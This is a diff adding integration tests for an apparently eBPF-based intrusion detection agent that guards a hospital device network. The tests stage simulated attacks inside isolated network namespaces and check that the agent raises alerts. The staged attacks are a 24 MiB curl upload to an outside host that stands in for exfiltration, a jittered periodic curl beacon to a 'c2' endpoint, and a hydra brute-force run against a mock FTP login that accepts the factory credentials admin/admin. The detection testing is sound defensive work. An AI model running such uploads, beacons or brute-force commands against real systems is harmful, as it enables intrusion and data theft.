@@ -1020,3 +1020,536 @@ fn a_real_hping3_syn_burst_through_the_packet_sensor_is_a_syn_flood() {
         read()
     );
 }
+
+/// A device network and an outside network joined by a gateway namespace that routes
+/// between them, as at a hospital's edge: the agent runs in the gateway with the packet
+/// sensor on both of its links, so it sees each direction of a connection once. Everything is
+/// deleted on drop.
+struct Routed {
+    device: String,
+    gateway: String,
+    outside: String,
+    gw_dev: String,
+    gw_out: String,
+    pin_dir: PathBuf,
+    subnet: u8,
+}
+
+impl Drop for Routed {
+    fn drop(&mut self) {
+        for ns in [&self.device, &self.gateway, &self.outside] {
+            let _ = Command::new("ip").args(["netns", "del", ns]).status();
+        }
+        let _ = std::fs::remove_dir_all(&self.pin_dir);
+    }
+}
+
+impl Routed {
+    fn new() -> Routed {
+        // SAFETY: geteuid has no preconditions.
+        if unsafe { libc::geteuid() } != 0 {
+            panic!("NOT RUN: the network-namespace tests need root (CI runs them as root)");
+        }
+        if !Packets::has_object() {
+            panic!("NOT RUN: heir was built without its eBPF programs (AYA_BUILD_SKIP?)");
+        }
+        let id = format!("{}{}", std::process::id() % 100_000, unique());
+        let net = Routed {
+            device: format!("hr-dev-{id}"),
+            gateway: format!("hr-gw-{id}"),
+            outside: format!("hr-out-{id}"),
+            gw_dev: format!("hgd{id}"),
+            gw_out: format!("hgo{id}"),
+            pin_dir: PathBuf::from(format!("/sys/fs/bpf/heir-routed-{id}")),
+            subnet: (std::process::id() % 200) as u8 + 20,
+        };
+        for ns in [&net.device, &net.gateway, &net.outside] {
+            ip(&["netns", "add", ns]);
+            ip(&["-n", ns, "link", "set", "lo", "up"]);
+        }
+        for (ns, peer, gw_if, end) in [
+            (&net.device, format!("hvd{id}"), &net.gw_dev, "dev"),
+            (&net.outside, format!("hvo{id}"), &net.gw_out, "out"),
+        ] {
+            ip(&[
+                "-n",
+                &net.gateway,
+                "link",
+                "add",
+                gw_if,
+                "type",
+                "veth",
+                "peer",
+                "name",
+                &peer,
+                "netns",
+                ns,
+            ]);
+            let (host, gw) = (net.addr(end, 2), net.addr(end, 1));
+            ip(&["-n", ns, "addr", "add", &format!("{host}/24"), "dev", &peer]);
+            ip(&[
+                "-n",
+                &net.gateway,
+                "addr",
+                "add",
+                &format!("{gw}/24"),
+                "dev",
+                gw_if,
+            ]);
+            ip(&["-n", ns, "link", "set", &peer, "up"]);
+            ip(&["-n", &net.gateway, "link", "set", gw_if, "up"]);
+            ip(&["-n", ns, "route", "add", "default", "via", &gw]);
+        }
+        let fwd = Command::new("ip")
+            .args(["netns", "exec", &net.gateway, "sysctl", "-qw"])
+            .arg("net.ipv4.ip_forward=1")
+            .status()
+            .expect("running sysctl");
+        assert!(fwd.success(), "enabling forwarding in the gateway");
+        net
+    }
+
+    /// `end` is "dev" (the device network) or "out" (outside the hospital).
+    fn addr(&self, end: &str, host: u8) -> String {
+        let net = if end == "dev" { 232 } else { 233 };
+        format!("10.{net}.{}.{host}", self.subnet)
+    }
+
+    fn device_net(&self) -> String {
+        format!("10.232.{}.0/24", self.subnet)
+    }
+
+    /// Starts `heir agent` in the gateway with the packet sensor on both links, the given
+    /// configuration, and alerts written to `alerts`; waits for `ready`.
+    fn agent(&self, data: &Path, config: &str, alerts: &Path) -> Reap {
+        let cfg = data.join("heir.toml");
+        std::fs::write(&cfg, config).unwrap();
+        let mut agent = Reap(
+            Command::new("nsenter")
+                .arg(format!("--net=/var/run/netns/{}", self.gateway))
+                .arg(HEIR)
+                .args(["agent", "--iface", &self.gw_dev, "--iface", &self.gw_out])
+                .arg("--data-dir")
+                .arg(data)
+                .arg("--pin-dir")
+                .arg(&self.pin_dir)
+                .arg("--config")
+                .arg(&cfg)
+                .arg("--alerts")
+                .arg(alerts)
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::null())
+                .spawn()
+                .expect("starting heir agent"),
+        );
+        use std::io::BufRead;
+        let mut lines = std::io::BufReader::new(agent.0.stdout.take().unwrap()).lines();
+        assert_eq!(lines.next().unwrap().unwrap(), "ready");
+        agent
+    }
+
+    /// Runs `curl` in the device namespace with `args`; true when it succeeded.
+    fn curl(&self, args: &[&str]) -> bool {
+        Command::new("ip")
+            .args([
+                "netns",
+                "exec",
+                &self.device,
+                "curl",
+                "-s",
+                "-o",
+                "/dev/null",
+                "-m",
+                "10",
+            ])
+            .args(args)
+            .status()
+            .expect("NOT RUN: curl is missing (cargo xtask setup installs it)")
+            .success()
+    }
+}
+
+/// An HTTP server on `port` in namespace `ns` that reads each request with its body and
+/// answers `200 ok`, until `stop` is set.
+fn http_sink(ns: &str, addr: SocketAddr, stop: Arc<AtomicBool>) -> std::thread::JoinHandle<()> {
+    use std::io::{Read, Write};
+    in_netns(ns, move || {
+        let l = TcpListener::bind(addr).unwrap();
+        l.set_nonblocking(true).unwrap();
+        while !stop.load(Ordering::Relaxed) {
+            let Ok((mut c, _)) = l.accept() else {
+                std::thread::sleep(Duration::from_millis(5));
+                continue;
+            };
+            c.set_nonblocking(false).unwrap();
+            c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+            let mut head = Vec::new();
+            let mut buf = vec![0u8; 64 * 1024];
+            let body_start = loop {
+                match c.read(&mut buf) {
+                    Ok(0) | Err(_) => break None,
+                    Ok(n) => head.extend_from_slice(&buf[..n]),
+                }
+                if let Some(i) = head.windows(4).position(|w| w == b"\r\n\r\n") {
+                    break Some(i + 4);
+                }
+            };
+            let Some(start) = body_start else { continue };
+            let text = String::from_utf8_lossy(&head[..start]).to_ascii_lowercase();
+            let want: usize = text
+                .lines()
+                .find_map(|l| l.strip_prefix("content-length:"))
+                .and_then(|v| v.trim().parse().ok())
+                .unwrap_or(0);
+            let mut got = head.len() - start;
+            while got < want {
+                match c.read(&mut buf) {
+                    Ok(0) | Err(_) => break,
+                    Ok(n) => got += n,
+                }
+            }
+            let _ =
+                c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
+        }
+    })
+}
+
+fn alerts_in(path: &Path) -> Vec<serde_json::Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("alert lines are JSON"))
+        .collect()
+}
+
+/// Waits up to `secs` for an alert of `category` that `pick` accepts.
+fn wait_alert(
+    path: &Path,
+    secs: u64,
+    pick: impl Fn(&serde_json::Value) -> bool,
+) -> Option<serde_json::Value> {
+    let deadline = Instant::now() + Duration::from_secs(secs);
+    loop {
+        if let Some(a) = alerts_in(path).into_iter().find(&pick) {
+            return Some(a);
+        }
+        if Instant::now() > deadline {
+            return None;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// The configuration the routed tests share: fast flow sweeps, and the device network as
+/// the only internal one (so the outside namespace is outside the hospital).
+fn routed_config(net: &Routed, extra: &str) -> String {
+    let internal = net.device_net();
+    format!(
+        "[sensor]\nflow_sweep_secs = 1\nflow_update_secs = 2\nflow_idle_secs = 2\n\n\
+         [detect.exfiltration]\nwindow_secs = 2\nwarmup_windows = 2\nmin_bytes = 4000000\n\
+         internal = [\"{internal}\"]\n\n\
+         [detect.beacon]\nmin_period_secs = 0.5\nmerge_ms = 200\ninternal = [\"{internal}\"]\n\n\
+         {extra}"
+    )
+}
+
+/// A real `curl` upload of 24 MiB from a device to a host outside, after a baseline of
+/// small requests, crosses the gateway's packet sensor: the flow sweeper reports the
+/// connection's volume and the exfiltration detector names it. The small requests alone
+/// raised nothing.
+#[test]
+fn a_real_upload_through_the_gateway_is_reported_as_exfiltration_with_its_volume() {
+    let net = Routed::new();
+    let data = tempfile::tempdir().unwrap();
+    let alerts = data.path().join("alerts.jsonl");
+    let _agent = net.agent(data.path(), &routed_config(&net, ""), &alerts);
+    let sink: SocketAddr = format!("{}:8080", net.addr("out", 2)).parse().unwrap();
+    let stop = Arc::new(AtomicBool::new(false));
+    let server = http_sink(&net.outside, sink, stop.clone());
+    let url = format!("http://{sink}/telemetry");
+
+    // The baseline: a small telemetry post every 300 ms for 6 s (three 2 s windows).
+    let t0 = Instant::now();
+    let mut posts = 0;
+    while t0.elapsed() < Duration::from_secs(6) {
+        assert!(
+            net.curl(&["-d", "spo2=97&hr=72", &url]),
+            "a small post failed"
+        );
+        posts += 1;
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    assert!(posts >= 10, "only {posts} posts in 6 s");
+    // Long enough for their connections to be swept.
+    std::thread::sleep(Duration::from_secs(3));
+    let quiet = alerts_in(&alerts);
+    assert!(
+        !quiet.iter().any(|a| a["category"] == "exfiltration"),
+        "small periodic posts look like exfiltration: {quiet:#?}"
+    );
+
+    let file = data.path().join("export.bin");
+    let size = 24 << 20;
+    std::fs::write(&file, vec![0x5au8; size]).unwrap();
+    let upload = format!("@{}", file.display());
+    assert!(
+        net.curl(&[
+            "-H",
+            "Expect:",
+            "--data-binary",
+            &upload,
+            &format!("http://{sink}/upload")
+        ]),
+        "the upload failed"
+    );
+    let device = net.addr("dev", 2);
+    let alert = wait_alert(&alerts, 15, |a| a["category"] == "exfiltration")
+        .unwrap_or_else(|| panic!("no exfiltration alert: {:#?}", alerts_in(&alerts)));
+    stop.store(true, Ordering::Relaxed);
+    server.join().unwrap();
+    assert_eq!(alert["src_ip"], device.as_str(), "{alert}");
+    assert_eq!(alert["dst_ip"], net.addr("out", 2).as_str(), "{alert}");
+    // "10.232.x.2 sent 24.9 MiB out of the network, ..." — at least the file, on the wire.
+    let title = alert["title"].as_str().unwrap();
+    let mib: f64 = title
+        .split(" sent ")
+        .nth(1)
+        .and_then(|r| r.split(" MiB").next())
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("no volume in MiB in `{title}`"));
+    assert!((24.0..40.0).contains(&mib), "{title}");
+}
+
+/// A jittered periodic `curl` from a device to an outside host (1 s ± 200 ms, 16 beats)
+/// through the gateway's packet sensor is reported as a beacon with its period; requests at
+/// irregular times from the same device to another port, at the same time, are not.
+#[test]
+fn a_jittered_periodic_curl_through_the_gateway_is_a_beacon_and_irregular_requests_are_not() {
+    let net = Routed::new();
+    let data = tempfile::tempdir().unwrap();
+    let alerts = data.path().join("alerts.jsonl");
+    let _agent = net.agent(data.path(), &routed_config(&net, ""), &alerts);
+    let stop = Arc::new(AtomicBool::new(false));
+    let c2: SocketAddr = format!("{}:8080", net.addr("out", 2)).parse().unwrap();
+    let web: SocketAddr = format!("{}:8081", net.addr("out", 2)).parse().unwrap();
+    let servers = [
+        http_sink(&net.outside, c2, stop.clone()),
+        http_sink(&net.outside, web, stop.clone()),
+    ];
+    let net = Arc::new(net);
+    // Irregular browsing, concurrently: gaps from 0.2 s to 3 s in no order.
+    let n = net.clone();
+    let browsing = std::thread::spawn(move || {
+        let gaps = [
+            250, 2700, 600, 1900, 350, 3000, 1200, 400, 2200, 800, 2900, 300, 1600,
+        ];
+        for g in gaps {
+            assert!(n.curl(&[&format!("http://{web}/news")]));
+            std::thread::sleep(Duration::from_millis(g));
+        }
+    });
+    // The beacon: a fixed pseudo-random jitter within ±200 ms of each 1 s beat.
+    let mut x: u32 = 0x2545_f491;
+    let start = Instant::now();
+    for beat in 0..16u64 {
+        x ^= x << 13;
+        x ^= x >> 17;
+        x ^= x << 5;
+        let jitter = i64::from(x % 401) - 200;
+        let at = Duration::from_millis((1000 * beat as i64 + jitter).max(0) as u64);
+        if let Some(wait) = at.checked_sub(start.elapsed()) {
+            std::thread::sleep(wait);
+        }
+        assert!(
+            net.curl(&[&format!("http://{c2}/tasks")]),
+            "beat {beat} failed"
+        );
+    }
+    // The agent's syscall sensor sees the local curl's connects too (a series of its own,
+    // named "local"); this is the one the gateway saw on the wire.
+    let device = net.addr("dev", 2);
+    let alert = wait_alert(&alerts, 10, |a| {
+        a["category"] == "c2_beacon" && a["src_ip"] == device.as_str()
+    })
+    .unwrap_or_else(|| panic!("no c2_beacon alert: {:#?}", alerts_in(&alerts)));
+    browsing.join().unwrap();
+    stop.store(true, Ordering::Relaxed);
+    for s in servers {
+        s.join().unwrap();
+    }
+    assert_eq!(alert["dst_port"], 8080, "{alert}");
+    assert!(
+        alert["title"].as_str().unwrap().ends_with("every 1s"),
+        "{alert}"
+    );
+    let period: f64 = alert["evidence"][0]
+        .as_str()
+        .and_then(|e| e.strip_prefix("period "))
+        .and_then(|e| e.split('s').next())
+        .and_then(|p| p.parse().ok())
+        .unwrap_or_else(|| panic!("no period in {alert}"));
+    assert!((0.85..1.15).contains(&period), "{alert}");
+    let all = alerts_in(&alerts);
+    assert!(
+        !all.iter()
+            .any(|a| a["category"] == "c2_beacon" && a["dst_port"] == 8081),
+        "irregular browsing looked like a beacon: {all:#?}"
+    );
+    assert!(
+        !all.iter().any(|a| a["category"] == "port_scan"),
+        "replies through the gateway looked like a scan: {all:#?}"
+    );
+}
+
+/// A device's FTP login service on port 21 of `addr` in namespace `ns`: the factory account
+/// admin/admin and the operator's jsmith/Pump-2024; three refusals close the connection, as
+/// on many embedded servers. Runs until `stop` is set.
+fn ftp_login_service(
+    ns: &str,
+    addr: SocketAddr,
+    stop: Arc<AtomicBool>,
+) -> std::thread::JoinHandle<()> {
+    use std::io::{BufRead, BufReader, Write};
+    in_netns(ns, move || {
+        let l = TcpListener::bind(addr).unwrap();
+        l.set_nonblocking(true).unwrap();
+        while !stop.load(Ordering::Relaxed) {
+            let Ok((c, _)) = l.accept() else {
+                std::thread::sleep(Duration::from_millis(5));
+                continue;
+            };
+            std::thread::spawn(move || {
+                c.set_nonblocking(false).unwrap();
+                c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+                let mut w = c.try_clone().unwrap();
+                let _ = w.write_all(b"220 Infusion pump FTP service ready\r\n");
+                let (mut user, mut refused) = (String::new(), 0);
+                for line in BufReader::new(c).lines().map_while(Result::ok) {
+                    let (verb, arg) = line.split_once(' ').unwrap_or((&line, ""));
+                    let reply: &[u8] = match verb.to_ascii_uppercase().as_str() {
+                        "USER" => {
+                            user = arg.trim().to_owned();
+                            b"331 Password required\r\n"
+                        }
+                        "PASS" => {
+                            let ok = matches!(
+                                (user.as_str(), arg.trim()),
+                                ("admin", "admin") | ("jsmith", "Pump-2024")
+                            );
+                            if ok {
+                                b"230 Login successful\r\n"
+                            } else {
+                                refused += 1;
+                                b"530 Login incorrect\r\n"
+                            }
+                        }
+                        "PWD" => b"257 \"/\"\r\n",
+                        "QUIT" => b"221 Goodbye\r\n",
+                        _ => b"502 Command not implemented\r\n",
+                    };
+                    if w.write_all(reply).is_err() || verb.eq_ignore_ascii_case("QUIT") {
+                        break;
+                    }
+                    if refused >= 3 {
+                        break;
+                    }
+                }
+            });
+        }
+    })
+}
+
+/// `hydra` with a bounded wordlist against a device's FTP login, from outside through the
+/// gateway's packet sensor: the refused logins it makes are a brute force, and its use of
+/// the factory account a default-credentials alert. An operator's ordinary login before it
+/// raised neither.
+#[test]
+fn a_real_hydra_ftp_attack_through_the_gateway_is_brute_force_with_default_credentials() {
+    let net = Routed::new();
+    let data = tempfile::tempdir().unwrap();
+    let alerts = data.path().join("alerts.jsonl");
+    let config = routed_config(
+        &net,
+        "[detect.brute_force]\nfailures = 5\n\n[detect.default_credentials]\nalert_on_attempt = true\n",
+    );
+    let _agent = net.agent(data.path(), &config, &alerts);
+    let device = net.addr("dev", 2);
+    let service: SocketAddr = format!("{device}:21").parse().unwrap();
+    let stop = Arc::new(AtomicBool::new(false));
+    let server = ftp_login_service(&net.device, service, stop.clone());
+    std::thread::sleep(Duration::from_millis(200));
+
+    // The operator logs in with their own account, from outside.
+    let login = Command::new("ip")
+        .args(["netns", "exec", &net.outside, "curl", "-s", "-m", "5"])
+        .arg(format!("ftp://jsmith:Pump-2024@{device}/"))
+        .output()
+        .expect("NOT RUN: curl is missing (cargo xtask setup installs it)");
+    // curl logs in, then fails on the listing the service does not offer.
+    assert_ne!(
+        login.status.code(),
+        Some(67),
+        "the operator's login was refused"
+    );
+    std::thread::sleep(Duration::from_secs(2));
+    let quiet = alerts_in(&alerts);
+    assert!(
+        !quiet
+            .iter()
+            .any(|a| a["category"] == "brute_force" || a["category"] == "default_credentials"),
+        "an ordinary login raised an alert: {quiet:#?}"
+    );
+
+    // hydra: 24 wrong passwords, then the factory one.
+    let words: Vec<String> = (0..24)
+        .map(|i| format!("guess{i:02}"))
+        .chain(["admin".to_owned()])
+        .collect();
+    let list = data.path().join("passwords.txt");
+    std::fs::write(&list, words.join("\n") + "\n").unwrap();
+    let hydra = Command::new("timeout")
+        .args([
+            "60",
+            "ip",
+            "netns",
+            "exec",
+            &net.outside,
+            "hydra",
+            "-I",
+            "-f",
+            "-t",
+            "2",
+        ])
+        .args(["-l", "admin", "-P"])
+        .arg(&list)
+        .arg(format!("ftp://{device}"))
+        .current_dir(data.path())
+        .output()
+        .expect("NOT RUN: hydra is missing (cargo xtask setup installs it)");
+    let said = String::from_utf8_lossy(&hydra.stdout);
+    assert!(
+        said.contains("login: admin") && said.contains("password: admin"),
+        "hydra did not find the factory login: {said}{}",
+        String::from_utf8_lossy(&hydra.stderr)
+    );
+    let attacker = net.addr("out", 2);
+    let brute = wait_alert(&alerts, 10, |a| a["category"] == "brute_force")
+        .unwrap_or_else(|| panic!("no brute_force alert: {:#?}", alerts_in(&alerts)));
+    let default = wait_alert(&alerts, 5, |a| a["category"] == "default_credentials")
+        .unwrap_or_else(|| panic!("no default_credentials alert: {:#?}", alerts_in(&alerts)));
+    stop.store(true, Ordering::Relaxed);
+    server.join().unwrap();
+    for a in [&brute, &default] {
+        assert_eq!(a["src_ip"], attacker.as_str(), "{a}");
+        assert_eq!(a["dst_ip"], device.as_str(), "{a}");
+        assert_eq!(a["dst_port"], 21, "{a}");
+    }
+    assert!(brute["title"].as_str().unwrap().contains("ftp"), "{brute}");
+    assert!(brute.to_string().contains("admin"), "{brute}");
+    assert!(default.to_string().contains("admin"), "{default}");
+    let all = alerts_in(&alerts);
+    assert!(
+        !all.iter().any(|a| a.to_string().contains("guess")),
+        "a password reached an alert: {all:#?}"
+    );
+}
